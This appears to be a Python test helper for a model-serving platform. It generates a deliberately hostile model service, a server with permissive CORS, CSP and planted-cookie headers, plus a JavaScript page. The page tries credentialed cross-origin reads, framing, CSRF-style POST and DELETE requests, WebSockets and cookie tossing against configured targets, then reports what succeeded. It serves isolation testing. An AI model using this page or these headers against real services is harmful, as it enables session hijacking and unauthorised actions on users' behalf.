"""A model that is nobody's friend: its page tries all that would act with the rights of whoever looks at it.

What its page reports is not believed for more than it can see itself; what reached somebody else is asked there.
"""

from __future__ import annotations

import json
from collections.abc import Collection, Mapping, Sequence
from dataclasses import asdict, dataclass, field
from typing import Any

__all__ = ["DEFINITION", "MODEL", "Aims", "page", "succeeded"]

DEFINITION = """\
models:
- name: hostile
  model_path: /models
  service: {start_command: [python3, /models/model.py, "{port}", /models, HERE], port: 8000}
"""

#: Whatever is asked for, with each header by which it could reach further; ``/seen`` is what it was sent so far.
MODEL = """
import http.server, json, pathlib, sys

folder = pathlib.Path(sys.argv[2])
seen = []

class Model(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("latin-1")
        kind, data = "text/html", b"<p>nothing</p>"
        if self.path == "/seen":
            kind, data = "application/json", json.dumps(seen).encode()
        else:
            seen.append([self.command, self.path, dict(self.headers), body])
            name = self.path.partition("?")[0].strip("/") or "page.html"
            if name in ("page.html", "worker.js"):
                data = (folder / name).read_bytes()
                kind = "text/javascript" if name.endswith("js") else "text/html"
        self.send_response(200)
        for name, value in (
            ("Content-Type", kind),
            ("Content-Length", str(len(data))),
            ("Content-Security-Policy", "default-src * 'unsafe-inline'"),
            ("Set-Cookie", "planted=1; Path=/"),
            ("Set-Cookie", "_xsrf=planted; Path=/"),
            ("Set-Cookie", "model-service-page=planted; Path=/"),
            ("Set-Cookie", "__Host-model-service-visit=planted; Path=/; Secure"),
            ("Set-Cookie", "tossed=1; Path=/; Domain=models.localhost"),
            ("Set-Cookie", "tossed=1; Path=/; Domain=localhost"),
            ("Access-Control-Allow-Origin", self.headers.get("Origin", "*")),
            ("Access-Control-Allow-Credentials", "true"),
            ("Service-Worker-Allowed", "/"),
            ("Cross-Origin-Opener-Policy", "unsafe-none"),
        ):
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)

    do_POST = do_PUT = do_DELETE = do_HEAD = do_OPTIONS = do_GET

    def log_message(self, *arguments):
        pass

http.server.ThreadingHTTPServer((sys.argv[3], int(sys.argv[1])), Model).serve_forever()
"""

_WORKER = "self.addEventListener('fetch', () => {});"


@dataclass(frozen=True)
class Aims:
    """Addresses of others, by what one would call them: ``read`` is read, ``change`` is sent a POST, ``sockets`` are
    opened, ``cookies`` are set by a script. An address with a query is told there by what it was read: ``&by=…``."""

    read: Mapping[str, str] = field(default_factory=dict)
    change: Mapping[str, str] = field(default_factory=dict)
    sockets: Mapping[str, str] = field(default_factory=dict)
    cookies: Sequence[str] = ()


def page(aims: Aims, here: str = "127.0.0.1") -> dict[str, str]:
    """Files of the model's folder. ``here`` is where its server listens."""
    html = _PAGE.replace("AIMS", json.dumps(asdict(aims)).replace("<", "\\u003c"))
    definition = DEFINITION.replace("HERE", here)
    return {"model.py": MODEL, "page.html": html, "worker.js": _WORKER, "model-definition.yaml": definition}


def succeeded(report: Mapping[str, Any], besides: Collection[str] = ()) -> dict[str, Any]:
    """What went well for the page, other than what it may."""
    return {name: told for name, told in report.items() if not str(told).startswith("failed") and name not in besides}


#: ``report`` by attempt: what came of it, or ``failed: …``. Own doings first, under ``own …``; the title changes at
#: the end.
_PAGE = """<!doctype html><title>busy</title><body><script>
const aims = AIMS, report = {};
const attempt = async (name, what) => {
  const late = new Promise((_, reject) => setTimeout(() => reject('no answer'), 6000));
  try { report[name] = String(await Promise.race([what(), late])); } catch (error) { report[name] = 'failed: ' + error; }
};
const frame = url => new Promise((resolve, reject) => {
  const made = document.createElement('iframe');
  made.onload = () => {
    try { resolve('read ' + made.contentDocument.body.innerText.slice(0, 80)); } catch (error) { reject(error); }
  };
  made.onerror = reject;
  made.src = url;
  document.body.append(made);
});
const opened = async url => {
  const other = window.open(url, '_blank');
  if (!other) throw 'no window';
  await new Promise(resolve => setTimeout(resolve, 3000));
  try { return 'read ' + other.document.body.innerText.slice(0, 80); } finally { try { other.close(); } catch (_) {} }
};
const by = (url, how) => url.includes('?') ? `${url}&by=${how}` : url;
const form = (url, how) => {
  const made = document.createElement('form');
  made.method = how; made.action = url; made.target = '_blank';
  made.innerHTML = '<input name="name" value="x">';
  document.body.append(made);
  made.submit();
};
const socket = url => new Promise((resolve, reject) => {
  const made = new WebSocket(url);
  made.onopen = () => resolve('open');
  made.onerror = () => reject('socket');
});
(async () => {
  const own = [
    attempt('own cookies', async () => { document.cookie = 'mine=1'; return document.cookie; }),
    attempt('own storage', async () => { localStorage.setItem('x', '1'); return localStorage.getItem('x'); }),
    attempt('own worker', async () => { await navigator.serviceWorker.register('worker.js'); return 'registered'; }),
    attempt('own model', async () => (await fetch('echo?own', {credentials: 'include'})).status),
    attempt('own root', async () => (await fetch('/api/v1/services', {credentials: 'include'})).status),
  ];
  await Promise.all(own);
  for (const cookie of aims.cookies) try { document.cookie = cookie; } catch (_) {}
  const tries = [];
  for (const [name, url] of Object.entries(aims.read)) {
    tries.push(attempt(`read ${name}`, async () => (await fetch(by(url, 'fetch'), {credentials: 'include'})).status));
    tries.push(attempt(`frame ${name}`, () => frame(by(url, 'frame'))));
    tries.push(attempt(`import ${name}`, async () => { await import(by(url, 'import')); return 'run'; }));
    fetch(by(url, 'no-cors'), {mode: 'no-cors', credentials: 'include'}).catch(() => {});
    const image = new Image(); image.src = by(url, 'image');
  }
  for (const [name, url] of Object.entries(aims.change)) {
    const how = {method: 'POST', credentials: 'include', body: '{}'};
    tries.push(attempt(`post ${name}`, async () => (await fetch(url, how)).status));
    const json = {...how, headers: {'Content-Type': 'application/json', 'X-XSRFToken': 'x'}};
    tries.push(attempt(`post JSON ${name}`, async () => (await fetch(url, json)).status));
    tries.push(attempt(`delete ${name}`, async () => (await fetch(url, {...how, method: 'DELETE'})).status));
    fetch(url, {...how, mode: 'no-cors'}).catch(() => {});
    try { form(url, 'POST'); } catch (_) {}
    try { navigator.sendBeacon(url, '{}'); } catch (_) {}
  }
  for (const [name, url] of Object.entries(aims.sockets)) tries.push(attempt(`socket ${name}`, () => socket(url)));
  await Promise.all(tries);
  const reads = Object.entries(aims.read);
  await Promise.all(reads.map(([name, url]) => attempt(`window ${name}`, () => opened(by(url, 'window')))));
  await attempt('the window that it is in', async () => window.parent === window ? Promise.reject('alone') : 'framed');
  const shown = document.createElement('pre');
  shown.id = 'report';
  shown.textContent = JSON.stringify(report);
  document.body.append(shown);
  document.title = 'done';
})();
</script>"""
